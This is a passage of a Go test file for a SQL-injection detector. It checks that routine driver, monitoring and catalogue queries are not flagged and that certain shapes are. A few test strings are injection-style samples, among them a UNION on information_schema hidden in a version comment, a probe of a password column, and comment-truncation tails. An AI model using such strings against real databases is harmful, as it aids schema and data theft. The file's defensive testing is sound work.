	seen := map[string]bool{}
	for _, d := range detect.Detectors() {
		if d.ID == "" || seen[d.ID] || d.Title == "" || len(d.Maps) == 0 || d.Maps[0] != "CWE-89" {
			t.Errorf("%+v", d)
		}
		seen[d.ID] = true
	}
}

// An ordinary statement costs nothing: its plan is empty.
func TestPlansOfOrdinaryStatementsAreEmpty(t *testing.T) {
	b := newBench(t)
	for _, sql := range []string{
		"SELECT abalance FROM pgbench_accounts WHERE aid = 12345", "INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')",
		"UPDATE t SET a = a + 1 WHERE id = 3", "SELECT u.id, count(*) FROM u JOIN o ON o.u = u.id WHERE o.at > now() - interval '1 day' GROUP BY u.id HAVING count(*) > 3 ORDER BY 2 DESC LIMIT 10",
	} {
		if fs := b.judge(t, sql, false); len(fs) > 0 {
			t.Errorf("%s: %+v", sql, fs)
		}
	}
}

// Monitors count the files of the write-ahead log and of the server's own log.
func TestTheServersOwnFoldersByThemselvesAreNoAlarm(t *testing.T) {
	b := newBench(t)
	for _, sql := range []string{
		"SELECT count(*) AS count FROM pg_ls_waldir() WHERE name ~ E'^[0-9A-F]{24}$'", "select name, size from pg_ls_logdir() order by modification",
		"select coalesce(sum(size), 0) from pg_catalog.pg_ls_tmpdir()", "select count(*) from pg_ls_archive_statusdir() where name like '%.ready'",
	} {
		if fs := b.judge(t, sql, false); detect.Score(fs) != 1 {
			t.Errorf("%s: %+v", sql, fs)
		}
	}
}

// What phpMyAdmin's tree of databases and MikroORM's list of tables ask the catalogue,
// by their trees and by their words; the same questions about a table of the
// application's are suspect.
func TestBrowsersOfTheCatalogueAreNoAlarm(t *testing.T) {
	b := newBench(t)
	for _, c := range []struct {
		sql   string
		my    bool
		alarm bool
	}{
		{sql: "SELECT `SCHEMA_NAME` FROM `INFORMATION_SCHEMA`.`SCHEMATA`, (SELECT DB_first_level FROM ( SELECT DISTINCT SUBSTRING_INDEX(SCHEMA_NAME, '_', 1) DB_first_level FROM INFORMATION_SCHEMA.SCHEMATA WHERE TRUE ) t ORDER BY DB_first_level ASC LIMIT 0, 100) t2 WHERE TRUE AND 1 = LOCATE(CONCAT(DB_first_level, '_'), CONCAT(SCHEMA_NAME, '_')) ORDER BY SCHEMA_NAME ASC", my: true},
		{sql: `select table_name, table_schema as schema_name, (select pg_catalog.obj_description(c.oid) from pg_catalog.pg_class c where c.oid = (select ('"' || table_schema || '"."' || table_name || '"')::regclass::oid) and c.relname = table_name) as table_comment from information_schema.tables t where "table_schema" not like 'pg_%' and "table_schema" not in ('information_schema', 'tiger') and table_name != 'geometry_columns' and table_type != 'VIEW' and not exists (select 1 from pg_inherits i join pg_class c on c.oid = i.inhrelid join pg_namespace n on n.oid = c.relnamespace where c.relname = t.table_name and n.nspname = t.table_schema) order by table_name`},
		{sql: "select table_name as table_name, nullif(table_schema, schema()) as schema_name, index_name as index_name, collation as sort_order /*M!100600 , ignored as ignored */ from information_schema.statistics where table_schema = database() and table_name in ('a', 'b') order by schema_name, table_name, index_name, seq_in_index", my: true},
		{sql: "select tc.table_name as table_name, /*M!100510 case when tc.level = 'Column' then tc.constraint_name else */ null /*M!100510 end */ as column_name from information_schema.check_constraints tc where tc.table_name in ('a', 'b') and tc.constraint_schema = database() order by tc.constraint_name", my: true},
		{sql: "SELECT op.oid, op.oprname, lt.typname, rt.typname FROM pg_catalog.pg_operator op LEFT OUTER JOIN pg_catalog.pg_type lt ON lt.oid=op.oprleft LEFT OUTER JOIN pg_catalog.pg_type rt ON rt.oid=op.oprright JOIN pg_catalog.pg_type et ON et.oid=op.oprresult LEFT OUTER JOIN pg_catalog.pg_description des ON (des.objoid=op.oid AND des.classoid='pg_operator'::regclass) ORDER BY op.oprname"},
		{sql: "select name from users, information_schema.schemata where id = 5 and 1 = locate('a', password) and (select 1) = 1", my: true, alarm: true},
		{sql: "select name from users where id = 5 /*!50000 union */ select schema_name from information_schema.schemata", my: true, alarm: true},
		{sql: "select name from users where id = 5 and (select 1) = 1 and 1 = ascii(version())", alarm: true},
	} {
		env := sqlfacts.Env{Flavour: sqlfacts.PostgreSQL, ANSIQuotes: true, NoBackslash: true, PipesConcat: true}
		if c.my {
			env = sqlfacts.Env{Flavour: sqlfacts.MariaDB, Version: 101106}
		}
		var text sqlfacts.Text
		text.Lex([]byte(c.sql), env)
		for how, f := range map[string]*sqlfacts.Facts{"tree": b.a.Analyse(context.Background(), &text), "words": b.a.Scan(&text)} {
			if fs := detect.Compile(f, env).Judge(&text); detect.Score(fs) >= detect.Medium != c.alarm {
				t.Errorf("by the %s, alarm is %v: %s\n%+v", how, !c.alarm, c.sql, fs)
			}
		}
	}
}

// A remark at a statement's end is not what an attacker leaves there.
func TestRemarksAtTheEndWeighLessThanWhatWasCutOff(t *testing.T) {
	b := newBench(t)
	weight := func(sql string, my bool) int {
		for _, f := range b.judge(t, sql, my) {
			if f.Detector == "comment-truncation" {
				return f.Weight
			}
		}
		return 0
	}
	for _, c := range []struct {
		sql  string
		my   bool
		want int
	}{
		{"select a from t where id = 4 -- ProductController#show", false, 1},
		{"select a from t where id = 4 -- don't sort", false, 1},
		{"select a from t where id = 4\n-- and b = 1", false, 1},
		{"select a from t where id = 4 # show", true, 1},
		{"select a from t where id = 4 /* it's ours */", false, 0},
		{"select a from t where id = 4 --", false, 3},
		{"select a from t where id = 4-- AbCd", false, 3},
		{"select a from t where id = 4 -- AbCd", false, 3},
		{"select a from t where id = 'x' -- ' and b = ''", false, 3},
		{"select a from t where id = 'x' -- AND b = 1", false, 3},
		{"select a from t where (id = 4 -- or b)", false, 3},
		{"select a from t where id = 4 #", true, 3},
		{"select a from t where id = 4 -- %'\n/*controller='search'*/", false, 3},
		{"select a from t where id = 4 -- by key\n/*controller='search'*/", false, 0},
		{"select a from t where id = 'x' /* ' and b = '' */", false, 3},
	} {
		if got := weight(c.sql, c.my); got != c.want {
			t.Errorf("weight %d, want %d: %s", got, c.want, c.sql)
		}
	}
}

// Long chains cost no more than their length: a shape is judged once, but an
// attacker can send ever new ones.
func TestLongChainsOfAlternativesAreJudgedInLinearTime(t *testing.T) {
	chain := &sqlfacts.Node{Kind: sqlfacts.Binary, Name: "=", Slot: -1, Args: []*sqlfacts.Node{{Kind: sqlfacts.Column, Name: "a", Slot: -1}, {Kind: sqlfacts.Number, Slot: 0}}}
	arm := chain
	for range 20000 {
		chain = &sqlfacts.Node{Kind: sqlfacts.Binary, Name: "or", Slot: -1, Args: []*sqlfacts.Node{chain, arm}}
	}
	where := &sqlfacts.Node{Kind: sqlfacts.Where, Slot: -1, Args: []*sqlfacts.Node{chain}}
	f := &sqlfacts.Facts{Statements: []*sqlfacts.Node{{Kind: sqlfacts.Select, Slot: -1, Args: []*sqlfacts.Node{where}}}}
	done := make(chan *detect.Plan)
	go func() { done <- detect.Compile(f, sqlfacts.Env{Flavour: sqlfacts.MariaDB}) }()
	select {
	case p := <-done:
		if !p.Empty() {
			t.Error("a chain of equal comparisons is taken for something")
		}
	case <-time.After(2 * time.Minute):
		t.Fatal("20,000 alternatives are not judged in two minutes")
	}
}

// What was taken for an injection once, in other people's tests and programs,
// and is none: it may be noted, but must not be an alarm by itself.
func TestOrdinaryWorkIsNoAlarm(t *testing.T) {
	b := newBench(t)
	for _, c := range []struct {
		sql string
		my  bool
	}{
		{"select repeat('x', 1000) from generate_series(1, 2000000)", false},
		{"insert into t (a) select g from generate_series(1, 5000000) g", false},
		{"create table t as select g as a from generate_series(1, 5000000) g", false},
		{"copy (select g from generate_series(1, 5000000) g) to stdout", false},
		{"select pg_catalog.lo_create('16663')", false},
		{"set statement_timeout = '1ms'; select pg_sleep(10)", false},
		{"select 1::int4, pg_sleep(10)::varchar", false},
		{"select 1; insert into t (a) values (1), (2)", false},
		{"select 1 ;insert into ledger(description, amount) values( 'q1' , '1' ),( 'q1' , '1' )", false},
		{"select 1; insert into t (a) values (1)", true},
		{"select 1 where true = false", false},
		{"select a from t where null = '1 or 1=1'", true},
		{"select a from t where a in ('x') and ('all' = 'all' or b = 1)", false},
		{"select a from t where 't' = 't'", false},
		{"select a from t where (select r from u where id = 1) = 'admin' or b > 0", true},
		{"select a from t where a = 1 and exists (select 1 from u limit 1)", false},
		{"select a from t where a = coalesce(null, a) and b <> round(b, 2)", true},
		{"select id from t where user_id = 2 or (select role from users where id = 2) = 'admin'", false},
		{"select id from t where published or a = 'x' or 'guest' = 'admin'", true},
		{"select id from t where 'a' = 'a' and b = 'x'", true},
		{"select id from t where (a = 'x' or 'x' = '') and (b = 'all' or 'all' = 'all')", true},
		{"insert into notes (author, body) values ((select name from users where id = 2), 'x')", false},
		{"select sql_calc_found_rows a from t where 1 = 1 and b = 'x' limit 10; select found_rows()", true},
		{"select a from t where (b = 'x' or b = 'y') and (c = 1 or -1 = -1) limit 5", true},
		{"select a from t where (case when 0 = 1 then null else b end) is not null group by a having count(1) > 0", true},
		{"select /*!40001 SQL_NO_CACHE */ a from t where 1 = 1 and b >= '1'", true},
		{"select 'x' as a, count(*) from t union all select 'y', count(*) from u union all select '', null", true},
		{"/*!40101 set @old=@@sql_mode, sql_mode='x' */; insert into t values (7,'--'); /*!40101 set sql_mode=@old */", true},
		{"select a from t where b < (select cast(value as decimal(10)) from settings where name = 'x')", true},
		{"select a.n from t a, settings s where s.name = 'x' and (s.value = 'y' or a.b)", false},
		{"select version(), (select setting from pg_settings where name = 'x')::int - (select count(*) from pg_stat_activity)", false},
		{loadTypes, false},
		{bestRow, true},
		{"select * from t where user_id = 7 or 7 = any(b)", false},
		{"select * from t where user_id = 7 or b @> array[7]", false},
		{"select * from t where user_id = 7 or b @> '[\"public\"]'", false},
		{"select * from t where user_id = 7 or b & 4 = 4", false},
		{"select * from t where user_id = 7 or coalesce(b, false)", false},
		{"select * from t where user_id = 7 or extract(year from at) = 2026", false},
		{"select * from t where a = 'n/a' or length(a) < 7", false},
		{"select * from t where a = '' or length(a) not between 7 and 15", false},
		{"select * from t where a = 'x' or (b, c) overlaps ('2026-01-01', '2026-01-05')", false},
		{"select * from t where (a = 0) = (b = 'x')", false},
		{"select * from t where (a = 'x') is not true", false},
		{"select * from t where user_id = 5 and a = 'x' or a = 'y' and b = 'z'", false},
		{"select * from t where a >= 5 and a <= '10' or b = 0", false},
		{"select * from t where a = 'x' and b > 5 or a <> 'x' and c > 5", false},
		{"select * from t where a = 'x' or a = 'y' and b > 5 or a not in ('x', 'y') and c > 1", false},
		{"update t set a = 'x', b = (select count(*) from u) where id = 1", false},
		{"update t set a = 'x', b = (select max(updated_at) from u) where id = 1", false},
		{"update t set value = (select max(id) from u) where name = 'x'", false},
		{"select * from t where id = (select (b->>'t_id')::int from u where id = 5)", false},
		{"select * from t where id in (select case when a_id = 5 then b_id else a_id end from friends where a_id = 5 or b_id = 5)", false},
		{"select * from t where id = (select split_part(b, ':', 2)::int from u where id = 4)", false},
		{"select * from t where id in (select unnest(b) from u where id = 4)", false},
		{"select * from t where a < 1000 - (select sum(b) from u where user_id = 5)", false},
		{"select * from t where a > 1.2 * (select avg(b) from u)", false},
		{"select x.c1, x.c2 from (select id as c1, card_number as c2 from customers) x", false},
		{"select value, label from (select id as value, iban as label from customers) o", false},
		{"insert into orders (user_id, product_id, qty) values (1, (select id from products where name = 'x'), 2), (1, 3, 1)", false},
		{"insert into lines (order_id, pos, price) values (5, 1, 9.5), (5, 2, (select price from products where id = 2))", false},
		{"delete from t where exists (select 1 from information_schema.tables where table_name = 'x')", false},
		{"select * from t where a not in (select pid from pg_stat_activity)", false},
		{"select id from rooms r order by exists (select 1 from bookings b where b.room_id = r.id and b.start_at < '2026-02-01' and b.end_at > '2026-01-01')", false},
		{"delete from t where id = 5; delete from u where t_id = 5", false},
		{"insert into t (a) values ('x'); update u set b = 'y' where b is null", false},
		{"select sum(a.b) from a join b on a.c = b.c where (a.b = a.b) or ((a.b is null) and (a.b is null))", false},
		{"select * from t where user_id = 7 or find_in_set(7, b)", true},
		{"select * from t where user_id = 7 or json_contains(b, '7')", true},
		{"select * from t where user_id = 7 or b & 4", true},
		{"select * from t where a = 'late' or dayofweek(at) in (1, 7)", true},
		{"select a from t where name = _utf8mb4 0x626F62 collate utf8mb4_bin", true},
		{"select * from users where id in (select if(a_id = 5, b_id, a_id) from friends where a_id = 5 or b_id = 5)", true},
		{"select * from t where (a = 1 or 1 is null) and (b = 1 or null is null)", true},
		{"select * from places where id = 5 or (lat between 1 and 2 and lng between 3 and 4)", false},
		{"select * from t where id = 5 or path like '1.5.%'", false},
		{"select * from t where case when 'week' = 'day' then at > '2026-01-01' when 'week' = 'week' then at > '2026-02-01' else true end", false},
		{"select * from t where coalesce('', 'x') = '' or a = 'y'", false},
		{"select * from t where price <= (select budget from u where id = 4)", false},
		{"select * from t where total > (select price from u where id = 3)", false},
		{"select count(*) from t where 1 = 1 and 2 = 2 and a = 'x'", false},
		{"select a from t where a = 'all' or 'all' = 'all'", false},
		{"select a from t where a like case when '' = '' then '%' else 'x' end", false},
		{"select a, case when b > 100 then 'big' when 1 = 1 then 'small' end from t", false},
		{"update orders set total = qty * (select price from products where id = 3) where id = 5", false},
		{"delete from t where user_id = 2 or expires_at < '2026-01-01'", false},
		{"select id from t order by case when id in (select t_id from u) then 0 else 1 end, a", false},
		{"select count(*) from api_keys where secret like 'sk_test_%'", false},
		{"select a, rank() over w from t window w as (order by b) order by rank() over w", false},
		{"with recursive c as (select id from t where a = 'x' union all select u.t_id from u join c on u.id = c.id) select * from c", false},
		{"select a from t where b < 10 or b >= 10 and c > 0", false},
		{"select a from t where b = 0 or b < 5 and c = 'x'", false},
		{"select at, message from t where a = 'x' union all select at, subject from u where b = 'y'", false},
		{"select id, (select title from u order by created_at desc limit 1) as news from t where user_id = 2", false},
		{"select a from t group by a having count(*) = (select count(*) from u)", false},
		{"insert into t (a, b) values (1, (select name from u where id = 2)), (2, 'x')", false},
		{"insert into t (a, b) values ('x', (select count(*) from u)), ('y', '5')", false},
		{"select sum(a) from t where (b = 1 and c = 'x' and d between 1 and 5 and e = 'z') or (b = 2 and c = 'y' and d between 1 and 10 and e = 'z') or (b = 3 and c = 'v' and d between 1 and 15 and e = 'z')", false},
		{"select * from places where id = 5 or (lat between 1 and 2 and lng between 3 and 4)", true},
		{"select count(*) from api_keys where secret like 'sk_test_%'", true},
		{"select * from t offset floor(random() * (select count(*) from t)) limit 1", false},
		{"select a, count(*) from t group by grouping sets (1, 2)", false},
		{"SAVEPOINT _EXEC_SVP_0x25239720;select count(*) from generate_series(1, 5000000)", false}, // as psqlodbc sends every statement
	} {
		for how, fs := range map[string][]event.Finding{"the parse": b.judge(t, c.sql, c.my), "the words": words(c.sql, c.my)} {
			if detect.Score(fs) >= detect.Medium {
				t.Errorf("by %s: %s: %+v", how, c.sql, fs)
			}
		}
	}
}

// bestRow asks as a JDBC driver does for the columns that name a row.
const bestRow = `SELECT 2 SCOPE, COLUMN_NAME, IF(NUMERIC_PRECISION IS NULL, CHARACTER_MAXIMUM_LENGTH, NUMERIC_PRECISION) COLUMN_SIZE, IF(IS_GENERATED='NEVER',1,2) PSEUDO_COLUMN
FROM INFORMATION_SCHEMA.COLUMNS WHERE (COLUMN_KEY = 'PRI' OR (COLUMN_KEY = 'UNI' AND NOT EXISTS (SELECT * FROM INFORMATION_SCHEMA.COLUMNS
WHERE COLUMN_KEY = 'PRI' AND TABLE_SCHEMA='app' AND TABLE_NAME = 'people'))) AND TABLE_SCHEMA='app' AND TABLE_NAME = 'people'`

// loadTypes asks as drivers do that learn of composite types: what the parts of a
// UNION read are the catalogue and what was made of it.
const loadTypes = `with recursive classes(oid, reltype) as (
  select c.oid, c.reltype from pg_catalog.pg_class c left join pg_catalog.pg_namespace n on n.oid = c.relnamespace where relname = any($1::text[])
  union all select c.oid, c.reltype from pg_class c join pg_namespace n on c.relnamespace = n.oid where nspname || '.' || relname = any($1::text[])),
types(oid) as (
  select reltype as oid from classes
  union all select t.oid from pg_type t left join pg_namespace n on t.typnamespace = n.oid where typname = any($1::text[]) or nspname || '.' || typname = any($1::text[])),
edges(parent, child) as (
  select p.oid, p.typelem from pg_type p where p.typtype = 'b' and p.typelem != 0 and p.typcategory = 'A'
  union all select t.oid, atttypid from pg_attribute join pg_class on pg_class.oid = attrelid join pg_type t on t.oid = reltype where not attisdropped and attnum > 0),
graph(parent, child, depth) as (
  select distinct 0::oid, types.oid, 0 from types
  union all select t.oid as parent, a.atttypid as child, 1 from classes c join pg_type t on c.reltype = t.oid join pg_attribute a on c.oid = a.attrelid
  union select edges.parent, edges.child, graph.depth + 1 from edges join graph on edges.parent = graph.child)
select typname, n.nspname, typtype, t.oid from pg_type t join graph on graph.child = t.oid join pg_namespace n on t.typnamespace = n.oid
where nspname || '.' || typname = any($1::text[]) or typname not like '\_%'`
